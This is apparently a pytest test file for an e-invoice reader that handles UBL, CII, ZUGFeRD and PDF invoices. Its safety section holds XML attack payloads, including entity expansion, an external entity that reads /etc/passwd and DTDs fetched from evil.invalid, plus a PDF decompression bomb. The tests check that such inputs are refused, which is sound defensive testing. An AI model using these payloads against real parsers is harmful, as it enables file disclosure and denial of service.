"""E-invoices: UBL, CII, ZUGFeRD 1, and PDF files with one of them inside."""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from bot import readers
from bot.domain.items import Document, DocumentType, Line, Side
from bot.domain.reading import Reading
from bot.errors import UnknownFile, WrongInput
from bot.readers import e_invoice, xml
from tests import invoice_samples as samples

SAMPLES = list(samples.expected())


def read(content: bytes, name: str = "invoice.xml") -> Document:
    [document] = readers.read(name, content).documents
    return document


def refusal(content: bytes) -> str:
    reading = readers.read("invoice.xml", content)
    assert not reading.documents
    return reading.refused[0].reason


def amount(text: str | None, *, sign: int = 1) -> Decimal | None:
    return None if text is None else Decimal(text) * sign


# --- the samples


@pytest.mark.parametrize(
    ("path", "said"), SAMPLES, ids=[f"{path.parent.name}-{path.name}" for path, _ in SAMPLES]
)
def test_every_sample_is_read_into_what_stands_in_it(path: Path, said: dict[str, Any]) -> None:
    """C28 C20: a negative invoice is a credit note, its amounts positive."""
    found = read(path.read_bytes(), path.name)
    sign = -1 if Decimal(said["gross"]) < 0 else 1
    is_credit = said["root"] == "CreditNote" or sign < 0
    assert found.type is (DocumentType.CREDIT_NOTE if is_credit else DocumentType.INVOICE)
    assert (found.side, found.document_number, found.currency) == (
        Side.COST, said["reference"], said["currency"],
    )  # fmt: skip
    days = [day and day.isoformat() for day in (found.date, found.due_date)]
    assert days == [said["issue_date"], said["due_date"]]
    supplier, customer = said["supplier"], said["customer"]
    assert found.supplier == (supplier["name"] or supplier["legal_name"])
    assert (found.supplier_legal_name or found.supplier) == supplier["legal_name"]
    assert (found.supplier_tax_number or None) == supplier["vat_id"]
    assert found.customer == (customer["name"] or customer["legal_name"])
    assert (found.total, found.tax_amount) == (
        amount(said["gross"], sign=sign),
        amount(said["tax"], sign=sign),
    )
    assert (found.prepaid, found.payable) == (
        amount(said["prepaid"], sign=sign), amount(said["payable"], sign=sign),
    )  # fmt: skip
    assert (found.order_reference or None, found.corrects or None) == (
        said["order_reference"],
        said["corrects"],
    )
    assert len(found.lines) >= said["lines"]
    assert sum(line.amount or 0 for line in found.lines) == amount(said["net"], sign=sign)
    rates = {Decimal(one["percent"] or 0) for one in said["tax_breakdown"]}
    assert {line.tax_rate for line in found.lines} == rates
    assert found.tax == (f"{rates.pop().normalize():f}%" if len(rates) == 1 else "")


def test_samples_that_share_supplier_and_number_are_items_of_their_own() -> None:
    """C28 C4: they differ in a day, an amount or what was paid; a person tells whether they are one."""
    identities = {read(path.read_bytes()).external_id for path, _ in SAMPLES}
    assert len(identities) == len({path.name for path, _ in SAMPLES})


def test_the_reference_samples_are_compared_where_they_are_there() -> None:
    if not samples.shared_ubl_is_there():
        pytest.skip("the reference data (shared/reference/invoices) is not beside the project")
    assert len(SAMPLES) > 30


def test_an_invoice_paid_beforehand_is_paid_and_a_part_of_it_is_noted() -> None:
    assert read(samples.ubl("EN16931_Einfach_negativePaymentDue.ubl.xml")).paid
    found = read(samples.ubl("EN16931_Rabatte.ubl.xml"))
    assert not found.paid
    assert found.note.startswith("50 EUR paid beforehand, 165.07 left to pay.\nRechnung gemäß Bestellung")
    assert "#" not in found.note


def test_further_tax_numbers_of_a_supplier_are_kept() -> None:
    found = read(samples.ubl("EN16931_Rabatte.ubl.xml"))
    assert (found.supplier_tax_number, found.other_tax_numbers) == ("201/113/40209", ("DE123456789",))


def test_allowances_on_the_whole_document_are_lines() -> None:
    """C22."""
    lines = read(samples.ubl("EN16931_Rabatte.ubl.xml")).lines
    assert [(line.description, line.amount, line.tax_rate) for line in lines[4:]] == [
        ("Sondernachlass", Decimal(-1), Decimal(19)),
        ("Sondernachlass", Decimal("-13.73"), Decimal(7)),
        ("Versandkosten", Decimal("5.8"), Decimal(7)),
    ]


def test_in_a_turned_invoice_quantity_times_price_is_still_the_amount() -> None:
    """C20 C22."""
    for line in read(samples.ubl("EN16931_Rechnungskorrektur.ubl.xml")).lines:
        assert line.quantity is not None
        assert line.unit_price is not None
        assert line.unit_price >= 0
        assert round(line.quantity * line.unit_price, 2) == line.amount


# --- CII


WANTED = Document(
    external_id="",
    side=Side.COST,
    type=DocumentType.INVOICE,
    supplier="Werkstatt Süd GmbH",
    supplier_tax_number="DE136695976",
    customer="Held Out Ltd",
    document_number="RE-2026/17",
    date=dt.date(2026, 8, 31),
    due_date=dt.date(2026, 9, 30),
    currency="EUR",
    total=Decimal("291.55"),
    tax_amount=Decimal("46.55"),
    tax="19%",
    tax_category="S",
    prepaid=Decimal("100.00"),
    payable=Decimal("191.55"),
    note="100.00 EUR paid beforehand, 191.55 left to pay.\nThank you for the order.",
    order_reference="PO-9",
    corrects="RE-2026/11",
    lines=tuple(
        Line(
            text,
            Decimal(quantity),
            Decimal(price),
            Decimal(net),
            tax="19%",
            tax_rate=Decimal(19),
            tax_category=category,
        )
        for text, quantity, price, net, category in (
            ("Oak panel", "10", "25", "250.00", "S"),
            ("Regular customer", "1", "-10.00", "-10.00", ""),
            ("Freight", "1", "5.00", "5.00", ""),
        )
    ),
)


@pytest.mark.parametrize("content", [samples.cii(), samples.zugferd_1()], ids=["CII", "ZUGFeRD 1"])
def test_a_cross_industry_invoice_is_read_with_everything_it_says(content: bytes) -> None:
    """C28."""
    found = read(content)
    assert found == Document(**{**_fields(WANTED), "external_id": found.external_id})
    assert found.external_id.startswith("e-invoice:RE-2026/17:")


def _fields(document: Document) -> dict[str, Any]:
    return {name: getattr(document, name) for name in Document.__dataclass_fields__}


def test_one_invoice_in_two_syntaxes_and_in_a_pdf_is_one_item() -> None:
    """C28: importing again skips what is there."""
    pdf = samples.pdf(("factur-x.xml", samples.cii()))
    assert len({read(content).external_id for content in (samples.cii(), samples.zugferd_1(), pdf)}) == 1
    other = samples.cii(gross="<ram:GrandTotalAmount>291.56</ram:GrandTotalAmount>")
    assert read(other).external_id != read(samples.cii()).external_id


@pytest.mark.parametrize("category", ["Z", "E", "AE", "K", "G", "O"])
def test_why_an_invoice_is_not_taxed_is_read(category: str) -> None:
    """C28: the rate alone is nought for all of them."""
    cii, ubl = samples.cii().decode(), samples.ubl("EN16931_Rabatte.ubl.xml").decode()
    for content in (
        cii.replace("<ram:CategoryCode>S<", f"<ram:CategoryCode>{category}<").replace(
            "Percent>19", "Percent>0"
        ),
        re.sub(r"Percent>\d+<", "Percent>0<", ubl.replace("<cbc:ID>S<", f"<cbc:ID>{category}<")),
    ):
        found = read(content.encode())
        assert (found.tax, found.lines[0].tax_category) == ("0%", category)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("380", DocumentType.INVOICE), ("384", DocumentType.INVOICE), ("389", DocumentType.INVOICE),
        ("751", DocumentType.INVOICE), ("381", DocumentType.CREDIT_NOTE), ("261", DocumentType.CREDIT_NOTE),
    ],
)  # fmt: skip
def test_the_type_code_tells_credit_notes(code: str, kind: DocumentType) -> None:
    """C20."""
    assert read(samples.cii(type_code=f"<ram:TypeCode>{code}</ram:TypeCode>")).type is kind


def test_the_name_one_trades_under_is_the_supplier_s() -> None:
    named = (
        "<ram:Name>Süd Holding GmbH</ram:Name><ram:SpecifiedLegalOrganization>"
        "<ram:TradingBusinessName>Werkstatt Süd</ram:TradingBusinessName></ram:SpecifiedLegalOrganization>"
    )
    found = read(samples.cii(seller=named))
    assert (found.supplier, found.supplier_legal_name) == ("Werkstatt Süd", "Süd Holding GmbH")


def test_a_due_month_is_no_due_date() -> None:
    month = '<udt:DateTimeString format="610">202609</udt:DateTimeString>'
    assert read(samples.cii(due_form=month)).due_date is None


def test_a_profile_without_a_total_gives_what_is_paid_and_to_pay() -> None:
    assert read(samples.cii(gross="")).total == Decimal("291.55")


def test_totals_that_do_not_agree_are_noted() -> None:
    found = read(samples.cii(gross="<ram:GrandTotalAmount>300.00</ram:GrandTotalAmount>"))
    assert found.note.startswith("Net 245.00 and tax 46.55 do not make 300.00.\n")


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"number": ""}, "the invoice has no number"),
        ({"number": f"<ram:ID>{'9' * 101}</ram:ID>"}, "the number is longer than 100 characters"),
        (
            {"type_code": "<ram:TypeCode>325</ram:TypeCode>"},
            "this is a proforma invoice: it is not to be booked",
        ),
        (
            {"gross": "<ram:GrandTotalAmount>1e3</ram:GrandTotalAmount>"},
            "total “1e3” is not an amount",
        ),
        (
            {"due_form": '<udt:DateTimeString format="102">20260231</udt:DateTimeString>'},
            "due date “20260231” is not a date",
        ),
    ],
)  # fmt: skip
def test_an_invoice_that_cannot_be_used_is_refused_with_its_reason(
    changes: dict[str, str], reason: str
) -> None:
    assert refusal(samples.cii(**changes)) == reason


# --- files inside


def test_files_inside_an_invoice_are_kept_beside_it() -> None:
    """C14."""
    reading = readers.read("re.xml", samples.cii())
    [files] = reading.attachments.values()
    assert [(file.name, file.content_type, file.content[:4]) for file in files] == [
        ("re.xml", "application/xml", b"<?xm"),
        ("plan.png", "image/png", b"\x89PNG"),
    ]


def test_of_a_pdf_the_pdf_is_the_file() -> None:
    content = samples.pdf(("other.txt", b"x"), ("ZUGFeRD-invoice.xml", samples.zugferd_1()))
    reading = readers.read("re.pdf", content)
    [files] = reading.attachments.values()
    assert [(file.name, file.content_type) for file in files] == [
        ("re.pdf", "application/pdf"),
        ("plan.png", "image/png"),
    ]
    assert files[0].content == content


@pytest.mark.parametrize(
    "name", ["factur-x.xml", "ZUGFeRD-invoice.xml", "zugferd-invoice.xml", "XRECHNUNG.XML"]
)
def test_the_invoice_inside_a_pdf_is_found_by_whatever_name(name: str) -> None:
    for content in (samples.cii(), samples.ubl()):
        assert read(samples.pdf((name, content))) == read(content)


def test_a_pdf_that_is_locked_against_changes_only_is_read() -> None:
    content = samples.pdf(("factur-x.xml", samples.cii()), owner="secret")
    assert read(content) == read(samples.cii())


def test_a_pdf_with_a_password_says_so() -> None:
    with pytest.raises(UnknownFile, match=r"^re\.pdf is locked with a password\. Save it without one\.$"):
        readers.read("re.pdf", samples.pdf(("factur-x.xml", samples.cii()), password="secret"))


@pytest.mark.parametrize(
    "content", [samples.pdf(), samples.pdf(("feed.xml", b"<?xml version='1.0'?><feed/>"))]
)
def test_a_pdf_with_no_invoice_inside_is_called_that(content: bytes) -> None:
    with pytest.raises(UnknownFile, match=r"^scan\.pdf is a PDF with no e-invoice inside\."):
        readers.read("scan.pdf", content)


@pytest.mark.parametrize("cut", [20, 200, 600])
def test_a_damaged_pdf_is_a_sentence(cut: int) -> None:
    with pytest.raises(WrongInput, match=r"^scan\.pdf is a"):
        readers.read("scan.pdf", samples.pdf(("factur-x.xml", samples.cii()))[:cut])


def test_a_pdf_whose_inside_would_fill_the_memory_is_refused() -> None:
    """A hundred kilobytes that unfold into a hundred megabytes."""
    content = samples.pdf_bomb(b" " * 100_000_000)
    assert len(content) < 200_000
    with pytest.raises(WrongInput, match=r"^re\.pdf is a damaged PDF"):
        readers.read("re.pdf", content)


# --- safety

EVIL = {
    "a billion laughs": """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>
        <Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&b;</Invoice>""",
    "a file of this machine": """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
        <Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&e;</Invoice>""",
    "a document type elsewhere": """<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "http://evil.invalid/x.dtd">
        <Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>""",
    "a parameter entity": """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/p">%p;]>
        <Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>""",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("text", EVIL.values(), ids=EVIL)
def test_what_declares_entities_or_a_document_type_is_refused_unread(text: str, encoding: str) -> None:
    """No entity is expanded, no address asked: `tests/conftest.py` fails a test that reaches outside."""
    for content in (text.encode(encoding), samples.pdf(("factur-x.xml", text.encode(encoding)))):
        with pytest.raises(WrongInput, match="declares a document type or entities"):
            readers.read("evil.pdf" if content.startswith(b"%PDF") else "evil.xml", content)


def test_a_document_type_in_a_rare_encoding_is_refused_too() -> None:
    declared = EVIL["a file of this machine"].replace('"1.0"', '"1.0" encoding="UTF-32"')
    with pytest.raises(WrongInput):
        readers.read("evil.xml", declared.encode("utf-32"))


def test_broken_xml_names_the_line() -> None:
    broken = samples.ubl().replace(b"</cbc:IssueDate>", b"</cbc:Wrong>", 1)
    with pytest.raises(WrongInput, match=r"^re\.xml cannot be read as XML \(.*, line \d+\)\."):
        readers.read("re.xml", broken)


def test_xml_that_is_too_deep_or_has_too_many_tags_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    deep = b"<?xml version='1.0'?>" + b"<a>" * 5000 + b"</a>" * 5000
    with pytest.raises(WrongInput, match="cannot be read as XML"):
        readers.read("re.xml", deep)
    monkeypatch.setattr(xml, "MOST_TAGS", 100)
    with pytest.raises(WrongInput, match="more than 100 tags"):
        readers.read("re.xml", samples.ubl())


# --- envelopes and encodings


def test_an_invoice_in_its_envelope_is_read() -> None:
    invoice = samples.ubl().partition(b"?>")[2]
    other = samples.cii().partition(b"?>")[2]
    head = b'<StandardBusinessDocument xmlns="urn:sbdh"><StandardBusinessDocumentHeader/>'
    content = b"<?xml version='1.0' encoding='UTF-8'?>" + head + invoice + other + invoice
    reading = readers.read("peppol.xml", content + b"</StandardBusinessDocument>")
    assert [one.document_number for one in reading.documents] == ["R1234567", "RE-2026/17"]
    assert reading == Reading(reading.documents, attachments=reading.attachments)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_every_usual_encoding_of_xml_is_read(encoding: str) -> None:
    said = encoding.removesuffix("-sig")
    content = samples.cii().decode().replace('encoding="UTF-8"', f'encoding="{said}"').encode(encoding)
    assert read(content) == read(samples.cii())


def test_xml_without_its_declaration_is_read() -> None:
    content = samples.ubl().partition(b"?>")[2]
    assert read(content) == read(samples.ubl())
    assert e_invoice.read("x", b"<html><body>Invoice</body></html>") is None
